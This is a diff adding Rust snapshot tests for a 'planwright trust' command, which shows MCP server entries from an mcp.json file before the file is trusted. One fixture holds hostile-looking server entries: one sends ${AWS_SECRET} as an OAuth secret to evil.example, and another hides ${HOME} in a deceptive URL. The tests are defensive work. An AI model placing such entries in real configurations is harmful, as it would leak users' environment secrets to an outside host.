@@ -123,3 +123,60 @@ fn a_secret_hides_nothing_of_what_a_file_would_start() {
     `mcp.json` is trusted as it is now
     ");
 }
+
+/// What `planwright trust` shows about the servers of a file.
+fn shown(servers: &Value) -> String {
+    let folder = tempfile::tempdir().unwrap();
+    let config = json!({"mcpServers": servers});
+    fs::write(folder.path().join("mcp.json"), config.to_string()).unwrap();
+    let output = planwright(folder.path())
+        .args(["trust", "mcp.json", "--no-store"])
+        .output()
+        .unwrap();
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    stderr(&output)
+}
+
+#[test]
+fn a_server_whose_variables_make_it_valid_is_shown() {
+    let servers = json!({
+        "header": {"url": "http://127.0.0.1:8899/mcp", "headers": {"A": "${HOME:-\n}${AWS_SECRET:-}"}},
+        "address": {"url": "http://evil.example${HOME}@x"},
+        "grant": {"url": "http://evil.example/", "headers": {"Authorization": "swordfish"},
+            "oauth": {"clientId": "c", "clientSecret": "${AWS_SECRET}", "grant": "${G:-client_credentials}"}},
+        "slow": {"command": "sleep", "args": ["${TIME}"], "timeout": "never", "more": 1},
+    });
+    insta::assert_snapshot!(shown(&servers), @r#"
+      header: talk to http://127.0.0.1:8899/mcp
+        with A: ${HOME:- }${AWS_SECRET:-}
+      address: talk to http://evil.example${HOME}@x
+      the server `grant` cannot be started: unknown grant `${G:-client_credentials}`
+      the server `slow` cannot be started: `timeout` must be a duration
+      grant as written: {"url":"http://evil.example/","headers":{"Authorization":"[redacted]"},"oauth":{"clientId":"c","clientSecret":"${AWS_SECRET}","grant":"${G:-client_credentials}"}}
+      slow as written: {"command":"sleep","args":["${TIME}"],"timeout":"never","more":1}
+      warning: the field `more` of the server `slow` is unknown and was ignored
+    `mcp.json` is trusted as it is now
+    "#);
+}
+
+#[test]
+fn each_field_of_a_server_is_shown() {
+    let servers = json!({
+        "a": {"command": "sh", "trusted": true, "timeout": "90s", "startTimeout": 1500, "protocol": "2025-11-25"},
+        "b": {"url": "http://127.0.0.1:8898/mcp", "oauth": {"clientId": "c d", "grant": "client_credentials",
+            "clientSecret": "${MY_PRIVATE}", "clientMetadataUrl": "https://example.com/c", "scopes": ["x", "y"], "callbackPort": 8000}},
+        "c": {"url": "http://127.0.0.1:8898/mcp", "oauth": {"clientId": "c", "clientSecret": "swordfish"}},
+    });
+    insta::assert_snapshot!(shown(&servers), @r#"
+      a: sh
+        trusted: its statements about its tools count, so that calls which it states to be harmless are repeated without a question
+        timeout: 90s
+        startTimeout: 1.5s
+        protocol: 2025-11-25
+      b: talk to http://127.0.0.1:8898/mcp
+        logs in with grant=client_credentials clientId='c d' clientSecret='${MY_PRIVATE}' clientMetadataUrl=https://example.com/c scopes='x y' callbackPort=8000
+      c: talk to http://127.0.0.1:8898/mcp
+        logs in with clientId=c clientSecret='[redacted]'
+    `mcp.json` is trusted as it is now
+    "#);
+}
